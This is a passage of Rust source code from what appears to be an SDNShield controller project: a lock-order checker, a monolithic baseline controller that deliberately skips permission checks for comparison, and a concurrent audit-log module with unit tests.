            let mut held = held.borrow_mut();
            if let Some(&(_, worst)) = held.iter().max_by_key(|&&(_, r)| r) {
                assert!(
                    rank > worst,
                    "lock-order inversion: acquiring {} while holding {} \
                     (hierarchy: Registry -> Subs -> Tracker -> Topology -> \
                     Switch -> Host -> HostInbox; see DESIGN.md)",
                    rank.name(),
                    worst.name(),
                );
            }
            let id = NEXT_ID.with(|n| {
                let id = n.get();
                n.set(id + 1);
                id
            });
            held.push((id, rank));
            id
        })
    }

    pub(super) fn pop(id: u64) {
        HELD.with(|held| {
            let mut held = held.borrow_mut();
            if let Some(pos) = held.iter().position(|&(i, _)| i == id) {
                held.remove(pos);
            }
        });
    }
}

/// Proof that a rank was registered as held. Keep it alive exactly as long
/// as the lock guard it annotates; dropping it releases the rank.
#[must_use = "the order token must live as long as the lock guard it annotates"]
pub struct Held {
    #[cfg(debug_assertions)]
    id: u64,
}

#[cfg(debug_assertions)]
impl Drop for Held {
    fn drop(&mut self) {
        imp::pop(self.id);
    }
}

/// Registers the intent to acquire a lock at `rank`.
///
/// # Panics
///
/// In debug builds, panics when this thread already holds a lock at `rank`
/// or greater. Release builds never panic (the check compiles away).
pub fn acquire(rank: Rank) -> Held {
    #[cfg(debug_assertions)]
    {
        Held {
            id: imp::push(rank),
        }
    }
    #[cfg(not(debug_assertions))]
    {
        let _ = rank;
        Held {}
    }
}

/// A lock guard bundled with its order token. Derefs to the guard's target,
/// so call sites read exactly like a bare `lock()`/`read()`/`write()`.
pub struct Ordered<G> {
    // Declared first so the lock releases before the rank pops.
    guard: G,
    _held: Held,
}

/// Acquires a lock through its closure at the given rank, checking the
/// hierarchy first (so an inversion panics *before* blocking — a
/// deterministic failure instead of a deadlock).
pub fn order<G>(rank: Rank, lock: impl FnOnce() -> G) -> Ordered<G> {
    let held = acquire(rank);
    Ordered {
        guard: lock(),
        _held: held,
    }
}

impl<G: Deref> Deref for Ordered<G> {
    type Target = G::Target;

    fn deref(&self) -> &Self::Target {
        &self.guard
    }
}

impl<G: DerefMut> DerefMut for Ordered<G> {
    fn deref_mut(&mut self) -> &mut Self::Target {
        &mut self.guard
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn descending_acquisition_is_legal() {
        let a = acquire(Rank::Registry);
        let b = acquire(Rank::Tracker);
        let c = acquire(Rank::HostInbox);
        // Guards may release in any order.
        drop(a);
        drop(c);
        drop(b);
    }

    #[test]
    fn sequential_reuse_is_legal() {
        // Take-release-take at non-increasing ranks is fine: only
        // simultaneous holds are constrained.
        drop(acquire(Rank::Host));
        drop(acquire(Rank::Tracker));
        drop(acquire(Rank::Host));
        drop(acquire(Rank::Registry));
    }

    #[cfg(debug_assertions)]
    #[test]
    #[should_panic(expected = "lock-order inversion")]
    fn inversion_panics() {
        let _tracker = acquire(Rank::Tracker);
        let _registry = acquire(Rank::Registry);
    }

    #[cfg(debug_assertions)]
    #[test]
    #[should_panic(expected = "lock-order inversion")]
    fn same_rank_reacquire_panics() {
        let _a = acquire(Rank::Host);
        let _b = acquire(Rank::Host);
    }

    #[cfg(debug_assertions)]
    #[test]
    #[should_panic(expected = "lock-order inversion")]
    fn inversion_against_highest_held_panics() {
        // The check is against the maximum held rank, not the most recent:
        // holding HostInbox (via any path) forbids taking Tracker even if
        // a lower rank was acquired in between and released.
        let _inbox = acquire(Rank::HostInbox);
        let _tracker = acquire(Rank::Tracker);
    }

    #[test]
    fn threads_are_independent() {
        let _registry = acquire(Rank::Host);
        std::thread::spawn(|| {
            // A fresh thread holds nothing; low ranks are fine.
            drop(acquire(Rank::Registry));
        })
        .join()
        .unwrap();
    }

    #[test]
    fn ordered_derefs_to_guard_target() {
        let cell = std::sync::Mutex::new(5i32);
        let mut g = order(Rank::Tracker, || cell.lock().unwrap());
        assert_eq!(*g, 5);
        *g = 6;
        drop(g);
        assert_eq!(*cell.lock().unwrap(), 6);
    }
}
