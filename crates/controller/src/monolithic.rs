//! The monolithic baseline controller: the unmodified-OpenDaylight stand-in
//! the paper compares against (§IX).
//!
//! Apps share the caller's thread, API calls execute directly with no
//! permission checks, and events dispatch by plain function call — the
//! architecture whose lack of isolation motivates SDNShield. The same
//! [`App`] implementations run unchanged on both controllers.
//!
//! Deliberately absent: panic containment. A crashing app unwinds through
//! the controller itself — exactly the monolithic fragility the paper's
//! thread containers eliminate (compare
//! [`crate::isolation::ShieldedController`], where app panics terminate
//! only the offending app's thread).

use std::collections::{HashMap, VecDeque};
use std::sync::atomic::{AtomicU16, Ordering};
use std::sync::Arc;

use parking_lot::Mutex;

use sdnshield_core::api::AppId;
use sdnshield_core::perm::PermissionSet;
use sdnshield_netsim::network::Network;
use sdnshield_openflow::messages::PacketIn;
use sdnshield_openflow::packet::EthernetFrame;
use sdnshield_openflow::types::DatapathId;

use crate::app::{App, AppCtx, CallRoute};
use crate::events::Event;
use crate::kernel::{Kernel, OutboundEvent};

/// Safety valve: maximum event-cascade rounds per external stimulus.
const MAX_CASCADE: usize = 64;

/// The monolithic controller.
///
/// # Examples
///
/// ```
/// use sdnshield_controller::monolithic::MonolithicController;
/// use sdnshield_netsim::network::Network;
/// use sdnshield_netsim::topology::builders;
///
/// let controller = MonolithicController::new(Network::new(builders::linear(2), 1024));
/// assert_eq!(controller.kernel().flow_count(sdnshield_openflow::types::DatapathId(1)), 0);
/// ```
pub struct MonolithicController {
    kernel: Arc<Kernel>,
    apps: Mutex<HashMap<AppId, Box<dyn App>>>,
    pending: Arc<Mutex<VecDeque<OutboundEvent>>>,
    next_app: AtomicU16,
}

impl MonolithicController {
    /// Builds the baseline controller (permission checks disabled).
    pub fn new(network: Network) -> Self {
        MonolithicController {
            kernel: Arc::new(Kernel::new(network, false)),
            apps: Mutex::new(HashMap::new()),
            pending: Arc::new(Mutex::new(VecDeque::new())),
            next_app: AtomicU16::new(1),
        }
    }

    /// The kernel, for inspection.
    pub fn kernel(&self) -> Arc<Kernel> {
        Arc::clone(&self.kernel)
    }

    /// Registers an app. The manifest is recorded for parity with the
    /// shielded controller but **not enforced** — that is the point of the
    /// baseline.
    pub fn register(&self, mut app: Box<dyn App>, manifest: &PermissionSet) -> AppId {
        let id = AppId(self.next_app.fetch_add(1, Ordering::Relaxed));
        let name = app.name().to_owned();
        // Registration cannot fail: checks are disabled, virtual topologies
        // are not materialized (the baseline has no such feature).
        let _ = self.kernel.register_app(id, &name, manifest);
        let ctx = self.ctx(id);
        app.on_start(&ctx);
        self.apps.lock().insert(id, app);
        self.drain_cascade();
        id
    }

    fn ctx(&self, id: AppId) -> AppCtx {
        AppCtx::new(
            id,
            CallRoute::Direct {
                kernel: Arc::clone(&self.kernel),
                pending: Arc::clone(&self.pending),
            },
        )
    }

    /// Delivers a packet-in to subscribers by direct call, then drains the
    /// resulting event cascade.
    pub fn deliver_packet_in(&self, dpid: DatapathId, packet_in: PacketIn) {
        let events = self.kernel.feed_packet_in(dpid, packet_in);
        self.pending.lock().extend(events);
        self.drain_cascade();
    }

    /// Alias of [`MonolithicController::deliver_packet_in`]: the baseline is
    /// inherently synchronous, so "no-wait" delivery degenerates to the same
    /// thing (kept for driver symmetry in benches).
    pub fn deliver_packet_in_nowait(&self, dpid: DatapathId, packet_in: PacketIn) {
        self.deliver_packet_in(dpid, packet_in);
    }

    /// Injects a data-plane frame from a host.
    pub fn inject_host_frame(&self, frame: EthernetFrame) {
        let events = self.kernel.inject_host_frame(frame);
        self.pending.lock().extend(events);
        self.drain_cascade();
    }

    /// Fails a physical link and notifies topology subscribers. Returns
    /// whether the link existed.
    pub fn fail_link(&self, a: DatapathId, b: DatapathId) -> bool {
        match self.kernel.fail_link(a, b) {
            Some(event) => {
                self.pending.lock().push_back(event);
                self.drain_cascade();
                true
            }
            None => false,
        }
    }

    /// Publishes a custom event from outside the app layer (test drivers).
    pub fn publish_topic(&self, topic: &str, data: bytes::Bytes) {
        self.pending.lock().push_back(OutboundEvent {
            event: Event::Custom {
                topic: topic.to_owned(),
                data,
            },
        });
        self.drain_cascade();
    }

    /// Fires a topology-change notification to subscribed apps (the ALTO
    /// scenario driver).
    pub fn deliver_topology_change(&self, description: &str) {
        self.pending.lock().push_back(OutboundEvent {
            event: Event::TopologyChanged {
                description: description.to_owned(),
            },
        });
        self.drain_cascade();
    }

    /// Advances the virtual clock.
    pub fn advance_clock(&self, secs: u64) {
        let events = self.kernel.advance_clock(secs);
        self.pending.lock().extend(events);
        self.drain_cascade();
    }

    /// Processes queued events until quiescence (bounded by
    /// [`MAX_CASCADE`] rounds to survive event loops).
    fn drain_cascade(&self) {
        for _ in 0..MAX_CASCADE {
            let Some(out) = self.pending.lock().pop_front() else {
                return;
            };
            // Sequential processing in subscriber order (interceptors lead)
            // gives the baseline phased semantics for free.
            let targets: Vec<AppId> = match &out.event {
                Event::Custom { topic, .. } => self.kernel.topic_subscribers(topic),
                other => match other.kind() {
                    Some(kind) => self.kernel.subscribers(kind),
                    None => Vec::new(),
                },
            };
            for target in targets {
                let Some(view) = self.kernel.event_view_for(target, &out.event) else {
                    continue;
                };
                // Take the app out so its `on_event` can issue calls that
                // enqueue further events without deadlocking on the map.
                let Some(mut app) = self.apps.lock().remove(&target) else {
                    continue;
                };
                let ctx = self.ctx(target);
                app.on_event(&ctx, &view);
                self.apps.lock().insert(target, app);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sdnshield_core::api::EventKind;
    use sdnshield_netsim::topology::builders;
    use sdnshield_openflow::actions::ActionList;
    use sdnshield_openflow::flow_match::FlowMatch;
    use sdnshield_openflow::messages::{FlowMod, PacketInReason};
    use sdnshield_openflow::types::{BufferId, PortNo, Priority};

    /// Installs one rule per packet-in, unconditionally.
    struct RuleStamper;

    impl App for RuleStamper {
        fn name(&self) -> &str {
            "rule-stamper"
        }

        fn on_start(&mut self, ctx: &AppCtx) {
            ctx.subscribe(EventKind::PacketIn).unwrap();
        }

        fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
            if let Event::PacketIn { dpid, .. } = event {
                ctx.insert_flow(
                    *dpid,
                    FlowMod::add(
                        FlowMatch::default().with_tp_dst(80),
                        Priority(10),
                        ActionList::output(PortNo(1)),
                    ),
                )
                .unwrap();
            }
        }
    }

    fn pi() -> PacketIn {
        PacketIn {
            buffer_id: BufferId::NO_BUFFER,
            in_port: PortNo(1),
            reason: PacketInReason::NoMatch,
            payload: bytes::Bytes::from_static(b"x"),
        }
    }

    #[test]
    fn event_drives_rule_installation_without_checks() {
        let c = MonolithicController::new(Network::new(builders::linear(2), 64));
        c.register(Box::new(RuleStamper), &PermissionSet::new());
        c.deliver_packet_in(DatapathId(1), pi());
        assert_eq!(c.kernel().flow_count(DatapathId(1)), 1);
        // No manifest, still allowed: the baseline enforces nothing.
    }

    #[test]
    fn unsubscribed_app_sees_nothing() {
        struct Deaf;
        impl App for Deaf {
            fn name(&self) -> &str {
                "deaf"
            }
            fn on_event(&mut self, _ctx: &AppCtx, _event: &Event) {
                panic!("should never be called");
            }
        }
        let c = MonolithicController::new(Network::new(builders::linear(2), 64));
        c.register(Box::new(Deaf), &PermissionSet::new());
        c.deliver_packet_in(DatapathId(1), pi());
    }
}
