//! Activity logging for forensic analysis (paper §VII scenario 2: "the
//! SDNShield can provide activity logging, which enables forensic analysis
//! after the attack happens").
//!
//! # Concurrency
//!
//! Appending is wait-free for producers on the common path: a record is
//! pushed (without a sequence number) into a fixed-capacity lock-free ring
//! ([`crossbeam::queue::ArrayQueue`]), and a background drainer thread —
//! the single consumer, guarded by the *drain mutex* — pops records in
//! ring order, assigns each a monotonic sequence number, and appends it to
//! the retained, segmented store. Because sequence numbers are assigned at
//! drain time by one consumer, the retained log is gap-free *by
//! construction*: [`AuditLog::records_since`] cursors see every admitted
//! record exactly once without any sort-and-truncate repair.
//!
//! Readers self-synchronize: every read API first takes the drain mutex
//! and drains the ring, so a single-threaded append-then-read always
//! observes its own records. Between reads, drained records lag in the
//! ring by at most the drainer's park interval (~1ms) — the *bounded audit
//! lag* relaxation documented in DESIGN.md §13.
//!
//! When the ring fills faster than it drains, producers first *assist*
//! (try-lock the drain mutex and drain in place), then retry briefly, and
//! finally shed the record, counting it in [`AuditLog::shed`] — without
//! ever blocking, and (for [`AuditLog::record_system_with`]) without
//! formatting the detail string nobody will retain. In practice shedding
//! requires the drain mutex to be held continuously while the ring is
//! full, which only the tests arrange; assist keeps the log lossless under
//! ordinary contention.

use std::fmt;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::Duration;

use crossbeam::queue::ArrayQueue;
use parking_lot::Mutex;
use sdnshield_core::api::AppId;
use sdnshield_core::token::PermissionToken;

/// The recorded outcome of a mediated call.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AuditOutcome {
    /// The call was allowed and executed.
    Allowed,
    /// The call was denied by the permission engine.
    Denied,
    /// The call was allowed but the operation failed (e.g. table full).
    Failed,
    /// The app crashed and was reaped by the supervisor.
    Crashed,
    /// An event addressed to the app was shed under overload (or discarded
    /// while reaping a crash) before the app saw it.
    Dropped,
}

/// One audit record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AuditRecord {
    /// Monotonic sequence number.
    pub seq: u64,
    /// The calling app.
    pub app: AppId,
    /// The operation name.
    pub operation: String,
    /// The token the call required. `None` for supervisor records (crash /
    /// overload shedding), which are not permission-mediated calls.
    pub token: Option<PermissionToken>,
    /// The outcome.
    pub outcome: AuditOutcome,
}

impl fmt::Display for AuditRecord {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.token {
            Some(token) => write!(
                f,
                "#{} {} {} [{}] {:?}",
                self.seq, self.app, self.operation, token, self.outcome
            ),
            None => write!(
                f,
                "#{} {} {} [-] {:?}",
                self.seq, self.app, self.operation, self.outcome
            ),
        }
    }
}

/// Records per segment that justify splitting the log; below this a single
/// segment keeps small logs' retention behavior simple and exact.
const SEGMENT_TARGET: usize = 8_192;
/// Upper bound on segments (retained-store shards).
const MAX_SEGMENTS: usize = 8;
/// Ring capacity bounds: at least a burst's worth of slack even for tiny
/// logs, at most one segment's worth so many kernels stay cheap.
const RING_MIN: usize = 64;
const RING_MAX: usize = 8_192;
/// Push attempts (each preceded by a drain-assist) before a record is shed.
const PUSH_RETRIES: usize = 64;
/// How long the drainer parks between sweeps — the audit-lag bound.
const DRAIN_PARK: Duration = Duration::from_millis(1);

/// A record as pushed by producers: everything but the sequence number,
/// which the drain side assigns in ring order.
struct PendingRecord {
    app: AppId,
    operation: String,
    token: Option<PermissionToken>,
    outcome: AuditOutcome,
}

#[derive(Default)]
struct Segment {
    records: Vec<AuditRecord>,
    dropped: u64,
}

/// State shared between producers, readers, and the drainer thread.
struct AuditShared {
    /// The lock-free producer ring.
    ring: ArrayQueue<PendingRecord>,
    /// Single-consumer role: whoever holds this may pop the ring, assign
    /// sequence numbers, and append to the segments. Unranked in the lock
    /// hierarchy (see `lockorder`): nothing is acquired under it except
    /// the segment mutexes, which are leaves.
    drain: Mutex<()>,
    segments: Vec<Mutex<Segment>>,
    per_segment_capacity: usize,
    capacity: usize,
    /// Last assigned sequence number (records are 1-based). Written only
    /// under the drain mutex; read anywhere.
    next_seq: AtomicU64,
    /// Highest sequence number evicted by retention; readers report only
    /// records beyond this floor.
    evicted_through: AtomicU64,
    /// Admission gate: when `false` no record is admitted (and callers
    /// using the `_with` constructors never build their detail strings).
    enabled: AtomicBool,
    /// Records shed at the ring under overload — never admitted, never
    /// sequence-numbered.
    shed: AtomicU64,
    /// Tells the drainer thread to exit.
    stop: AtomicBool,
}

impl AuditShared {
    /// Takes the consumer role and drains the ring into the segments.
    fn drain_ring(&self) {
        let _consumer = self.drain.lock();
        self.drain_locked();
    }

    /// Drains while already holding the drain mutex.
    fn drain_locked(&self) {
        while let Some(pending) = self.ring.pop() {
            let seq = self.next_seq.fetch_add(1, Ordering::SeqCst) + 1;
            self.store_push(AuditRecord {
                seq,
                app: pending.app,
                operation: pending.operation,
                token: pending.token,
                outcome: pending.outcome,
            });
        }
    }

    /// Drains opportunistically: a no-op if another thread is consuming.
    fn try_assist(&self) {
        if let Some(_consumer) = self.drain.try_lock() {
            self.drain_locked();
        }
    }

    /// Appends a sequenced record to its segment, evicting the oldest half
    /// of that segment when it is at capacity.
    fn store_push(&self, record: AuditRecord) {
        let mut seg = self.segments[(record.seq as usize - 1) % self.segments.len()].lock();
        if seg.records.len() >= self.per_segment_capacity {
            // Keep the newest half to amortize the shift.
            let keep_from = seg.records.len() / 2;
            if keep_from > 0 {
                seg.dropped += keep_from as u64;
                let floor = seg.records[keep_from - 1].seq;
                seg.records.drain(..keep_from);
                self.evicted_through.fetch_max(floor, Ordering::SeqCst);
            }
        }
        seg.records.push(record);
    }
}

/// An append-only, internally synchronized audit log with bounded
/// retention: a lock-free ring on the producer side, drained by a
/// background thread into a segmented retained store.
///
/// Appends take `&self`; multiple deputy threads write concurrently
/// without ever taking a lock on the common path.
pub struct AuditLog {
    shared: Arc<AuditShared>,
    drainer: Mutex<Option<JoinHandle<()>>>,
}

impl fmt::Debug for AuditLog {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("AuditLog")
            .field("capacity", &self.shared.capacity)
            .field("segments", &self.shared.segments.len())
            .field("ring", &self.shared.ring.len())
            .field("seen", &self.shared.next_seq.load(Ordering::SeqCst))
            .finish_non_exhaustive()
    }
}

impl AuditLog {
    /// A log retaining at most (about) `capacity` recent records.
    pub fn new(capacity: usize) -> Self {
        Self::with_ring(capacity, capacity.clamp(RING_MIN, RING_MAX))
    }

    /// Construction with an explicit ring capacity — exposed for tests
    /// that need a ring small enough to fill deterministically.
    fn with_ring(capacity: usize, ring_capacity: usize) -> Self {
        let num_segments = (capacity / SEGMENT_TARGET).clamp(1, MAX_SEGMENTS);
        let shared = Arc::new(AuditShared {
            ring: ArrayQueue::new(ring_capacity),
            drain: Mutex::new(()),
            segments: (0..num_segments)
                .map(|_| Mutex::new(Segment::default()))
                .collect(),
            per_segment_capacity: (capacity / num_segments).max(1),
            capacity,
            next_seq: AtomicU64::new(0),
            evicted_through: AtomicU64::new(0),
            enabled: AtomicBool::new(true),
            shed: AtomicU64::new(0),
            stop: AtomicBool::new(false),
        });
        let drainer = {
            let shared = Arc::clone(&shared);
            std::thread::Builder::new()
                .name("audit-drain".into())
                .spawn(move || {
                    while !shared.stop.load(Ordering::Acquire) {
                        shared.try_assist();
                        std::thread::park_timeout(DRAIN_PARK);
                    }
                    // Final sweep: anything pushed before the stop flag was
                    // raised lands in the store before the join returns.
                    shared.drain_ring();
                })
                .expect("spawn audit drainer")
        };
        AuditLog {
            shared,
            drainer: Mutex::new(Some(drainer)),
        }
    }

    /// Turns record admission on or off. Disabling keeps existing records
    /// readable but admits nothing new — and, through
    /// [`AuditLog::record_system_with`], spares callers the cost of
    /// formatting detail strings nobody will retain.
    pub fn set_enabled(&self, enabled: bool) {
        self.shared.enabled.store(enabled, Ordering::SeqCst);
    }

    /// Would a record be admitted right now? Callers building expensive
    /// operation strings should consult this (or use
    /// [`AuditLog::record_system_with`]) before formatting.
    pub fn is_enabled(&self) -> bool {
        self.shared.enabled.load(Ordering::Relaxed)
    }

    /// Appends a record for a permission-mediated call.
    pub fn record(
        &self,
        app: AppId,
        operation: &str,
        token: PermissionToken,
        outcome: AuditOutcome,
    ) {
        if !self.is_enabled() {
            return;
        }
        self.push_pending(PendingRecord {
            app,
            operation: operation.to_owned(),
            token: Some(token),
            outcome,
        });
    }

    /// Appends a supervisor record (crash, shed event) with no token.
    pub fn record_system(&self, app: AppId, operation: &str, outcome: AuditOutcome) {
        if !self.is_enabled() {
            return;
        }
        self.push_pending(PendingRecord {
            app,
            operation: operation.to_owned(),
            token: None,
            outcome,
        });
    }

    /// Appends a supervisor record whose operation string is built lazily:
    /// the closure runs only when the record will actually be admitted —
    /// not while auditing is disabled, and not when the ring is full and
    /// the record would be shed anyway. Overload is exactly when the
    /// `format!` allocation matters most, so the drop path pays for
    /// neither the string nor a lock.
    pub fn record_system_with(
        &self,
        app: AppId,
        operation: impl FnOnce() -> String,
        outcome: AuditOutcome,
    ) {
        if !self.is_enabled() {
            return;
        }
        if self.shared.ring.is_full() {
            self.shared.try_assist();
            if self.shared.ring.is_full() {
                self.shared.shed.fetch_add(1, Ordering::SeqCst);
                return;
            }
        }
        self.push_pending(PendingRecord {
            app,
            operation: operation(),
            token: None,
            outcome,
        });
    }

    /// Pushes into the ring, assisting the drain and retrying briefly when
    /// full; sheds (with a count) rather than ever blocking.
    fn push_pending(&self, pending: PendingRecord) {
        let mut pending = pending;
        for _ in 0..PUSH_RETRIES {
            match self.shared.ring.push(pending) {
                Ok(()) => return,
                Err(back) => {
                    pending = back;
                    self.shared.try_assist();
                    std::thread::yield_now();
                }
            }
        }
        self.shared.shed.fetch_add(1, Ordering::SeqCst);
    }

    /// Drains any ring residue so subsequent store reads are current.
    fn sync(&self) {
        self.shared.drain_ring();
    }

    /// All retained records, oldest first (a snapshot; see
    /// [`AuditLog::records_since`] for incremental reads).
    pub fn records(&self) -> Vec<AuditRecord> {
        self.records_since(0)
    }

    /// Records with sequence number greater than `since`, oldest first —
    /// the incremental-reader path. Sequence numbers are assigned by the
    /// single drain consumer, so the retained run is contiguous; a reader
    /// that advances its cursor to the last returned `seq` sees every
    /// admitted record exactly once.
    pub fn records_since(&self, since: u64) -> Vec<AuditRecord> {
        // Hold the consumer role across both the drain and the segment
        // scan. If another drain could assign sequences while we walk the
        // segments one lock at a time, a record landing in an
        // already-scanned segment (while a later seq lands in a
        // yet-to-be-scanned one) would read as a hole in an otherwise
        // gap-free run. Producers are unaffected: they only push the ring.
        let _consumer = self.shared.drain.lock();
        self.shared.drain_locked();
        let floor = since.max(self.shared.evicted_through.load(Ordering::SeqCst));
        let mut out: Vec<AuditRecord> = Vec::new();
        for seg in &self.shared.segments {
            let seg = seg.lock();
            out.extend(seg.records.iter().filter(|r| r.seq > floor).cloned());
        }
        out.sort_by_key(|r| r.seq);
        out
    }

    /// Records for one app (snapshot).
    pub fn records_by(&self, app: AppId) -> Vec<AuditRecord> {
        self.records()
            .into_iter()
            .filter(|r| r.app == app)
            .collect()
    }

    /// Denied calls for one app — the forensic signal of an attack attempt.
    pub fn denials_by(&self, app: AppId) -> Vec<AuditRecord> {
        self.records_by(app)
            .into_iter()
            .filter(|r| r.outcome == AuditOutcome::Denied)
            .collect()
    }

    /// Number of records evicted by retention so far (admitted, then aged
    /// out — distinct from [`AuditLog::shed`]).
    pub fn dropped(&self) -> u64 {
        self.sync();
        self.shared.segments.iter().map(|s| s.lock().dropped).sum()
    }

    /// Number of records shed at the ring under overload: never admitted,
    /// never sequence-numbered, so they do not appear in
    /// [`AuditLog::seen`].
    pub fn shed(&self) -> u64 {
        self.shared.shed.load(Ordering::SeqCst)
    }

    /// Total records ever admitted (retained or evicted).
    pub fn seen(&self) -> u64 {
        self.sync();
        self.shared.next_seq.load(Ordering::SeqCst)
    }

    /// Seeds sequence numbering after recovery: the next appended record
    /// takes `through + 1`, and sequences `..=through` read as evicted (the
    /// pre-crash records themselves are gone, but cursors positioned at or
    /// before `through` resume without observing the gap as data loss).
    pub fn seed(&self, through: u64) {
        let _consumer = self.shared.drain.lock();
        // Flush anything still in flight under the old numbering first.
        self.shared.drain_locked();
        self.shared.next_seq.store(through, Ordering::SeqCst);
        self.shared
            .evicted_through
            .fetch_max(through, Ordering::SeqCst);
    }
}

impl Drop for AuditLog {
    fn drop(&mut self) {
        self.shared.stop.store(true, Ordering::Release);
        if let Some(handle) = self.drainer.lock().take() {
            handle.thread().unpark();
            let _ = handle.join();
        }
        // Belt and braces: nothing can be pushing anymore (`&mut self`),
        // so one more sweep leaves the ring provably empty.
        self.shared.drain_ring();
    }
}

impl Default for AuditLog {
    fn default() -> Self {
        Self::new(65_536)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn records_and_queries() {
        let log = AuditLog::new(100);
        log.record(
            AppId(1),
            "insert_flow",
            PermissionToken::InsertFlow,
            AuditOutcome::Allowed,
        );
        log.record(
            AppId(2),
            "host_connect",
            PermissionToken::HostNetwork,
            AuditOutcome::Denied,
        );
        log.record(
            AppId(1),
            "insert_flow",
            PermissionToken::InsertFlow,
            AuditOutcome::Failed,
        );
        assert_eq!(log.records().len(), 3);
        assert_eq!(log.records_by(AppId(1)).len(), 2);
        assert_eq!(log.denials_by(AppId(2)).len(), 1);
        assert_eq!(log.denials_by(AppId(1)).len(), 0);
        assert_eq!(log.records()[0].seq, 1);
    }

    #[test]
    fn retention_evicts_oldest() {
        let log = AuditLog::new(4);
        for i in 0..10 {
            log.record(
                AppId(1),
                &format!("op{i}"),
                PermissionToken::ReadStatistics,
                AuditOutcome::Allowed,
            );
        }
        assert!(log.records().len() <= 4);
        assert!(log.dropped() > 0);
        // Sequence numbers keep counting across eviction.
        assert_eq!(log.records().last().unwrap().seq, 10);
    }

    #[test]
    fn dropped_counter_is_exact() {
        let log = AuditLog::new(4);
        for i in 0..4 {
            log.record(
                AppId(1),
                &format!("op{i}"),
                PermissionToken::ReadStatistics,
                AuditOutcome::Allowed,
            );
        }
        assert_eq!(log.dropped(), 0, "no eviction until capacity is exceeded");

        // The 5th record triggers one eviction of the oldest half (2 records).
        log.record(
            AppId(1),
            "op4",
            PermissionToken::ReadStatistics,
            AuditOutcome::Allowed,
        );
        assert_eq!(log.dropped(), 2);
        assert_eq!(log.records().len(), 3);
        assert_eq!(log.records().first().unwrap().seq, 3, "oldest half gone");

        // Nothing retained is ever double-counted: retained + dropped = seen.
        log.record(
            AppId(1),
            "op5",
            PermissionToken::ReadStatistics,
            AuditOutcome::Allowed,
        );
        assert_eq!(log.records().len() as u64 + log.dropped(), 6);
        assert_eq!(log.seen(), 6);
    }

    #[test]
    fn system_records_have_no_token() {
        let log = AuditLog::new(10);
        log.record_system(AppId(7), "crash:on_event", AuditOutcome::Crashed);
        log.record_system(AppId(7), "event_shed", AuditOutcome::Dropped);
        let recs = log.records_by(AppId(7));
        assert_eq!(recs.len(), 2);
        assert!(recs.iter().all(|r| r.token.is_none()));
        assert_eq!(recs[0].outcome, AuditOutcome::Crashed);
        assert!(recs[0].to_string().contains("[-]"));
    }

    #[test]
    fn records_since_is_an_exactly_once_cursor() {
        let log = AuditLog::new(1024);
        for i in 0..5 {
            log.record(
                AppId(1),
                &format!("op{i}"),
                PermissionToken::ReadStatistics,
                AuditOutcome::Allowed,
            );
        }
        let first = log.records_since(0);
        assert_eq!(first.len(), 5);
        let cursor = first.last().unwrap().seq;
        assert!(log.records_since(cursor).is_empty());
        for i in 5..8 {
            log.record(
                AppId(1),
                &format!("op{i}"),
                PermissionToken::ReadStatistics,
                AuditOutcome::Allowed,
            );
        }
        let next = log.records_since(cursor);
        assert_eq!(
            next.iter().map(|r| r.seq).collect::<Vec<_>>(),
            vec![6, 7, 8]
        );
    }

    #[test]
    fn disabled_log_admits_nothing() {
        let log = AuditLog::new(16);
        log.record(
            AppId(1),
            "insert_flow",
            PermissionToken::InsertFlow,
            AuditOutcome::Allowed,
        );
        log.set_enabled(false);
        log.record(
            AppId(1),
            "insert_flow",
            PermissionToken::InsertFlow,
            AuditOutcome::Allowed,
        );
        log.record_system(AppId(1), "event_shed", AuditOutcome::Dropped);
        assert_eq!(log.records().len(), 1, "only the pre-disable record");
        assert_eq!(log.seen(), 1, "no sequence numbers burned while off");
        log.set_enabled(true);
        log.record_system(AppId(1), "event_shed", AuditOutcome::Dropped);
        assert_eq!(log.records().len(), 2);
    }

    #[test]
    fn record_system_with_skips_formatting_when_disabled() {
        let log = AuditLog::new(16);
        log.set_enabled(false);
        let mut built = false;
        log.record_system_with(
            AppId(3),
            || {
                built = true;
                "crash:on_event".to_owned()
            },
            AuditOutcome::Crashed,
        );
        assert!(!built, "detail string must not be built while disabled");
        log.set_enabled(true);
        log.record_system_with(
            AppId(3),
            || {
                built = true;
                "crash:on_event".to_owned()
            },
            AuditOutcome::Crashed,
        );
        assert!(built);
        assert_eq!(log.records_by(AppId(3)).len(), 1);
        assert_eq!(log.records_by(AppId(3))[0].operation, "crash:on_event");
    }

    #[test]
    fn full_ring_sheds_lazy_records_without_formatting() {
        // A 2-slot ring whose drain mutex we hold: the drainer thread and
        // producer assists can't make space, so the third record must shed.
        let log = AuditLog::with_ring(1024, 2);
        {
            let _consumer = log.shared.drain.lock();
            log.record_system(AppId(1), "fill-a", AuditOutcome::Dropped);
            log.record_system(AppId(1), "fill-b", AuditOutcome::Dropped);
            let mut built = false;
            log.record_system_with(
                AppId(1),
                || {
                    built = true;
                    "expensive-detail".to_owned()
                },
                AuditOutcome::Dropped,
            );
            assert!(!built, "closure must not run when the record is shed");
            assert_eq!(log.shed(), 1);
        }
        // With the consumer role released the backlog drains normally.
        assert_eq!(log.records().len(), 2);
        assert_eq!(log.seen(), 2, "shed records burn no sequence numbers");
    }

    #[test]
    fn full_ring_sheds_eager_records_after_bounded_retries() {
        let log = AuditLog::with_ring(1024, 2);
        {
            let _consumer = log.shared.drain.lock();
            log.record_system(AppId(1), "fill-a", AuditOutcome::Dropped);
            log.record_system(AppId(1), "fill-b", AuditOutcome::Dropped);
            // Bounded retries, then shed — never blocks the producer.
            log.record(
                AppId(1),
                "overflow",
                PermissionToken::ReadStatistics,
                AuditOutcome::Allowed,
            );
            assert_eq!(log.shed(), 1);
        }
        assert_eq!(log.records().len(), 2);
    }

    #[test]
    fn background_drainer_advances_without_readers() {
        let log = AuditLog::new(64);
        log.record_system(AppId(1), "op", AuditOutcome::Dropped);
        // Wait (bounded) for the drainer thread, not a reader sync, to
        // move the record into the store.
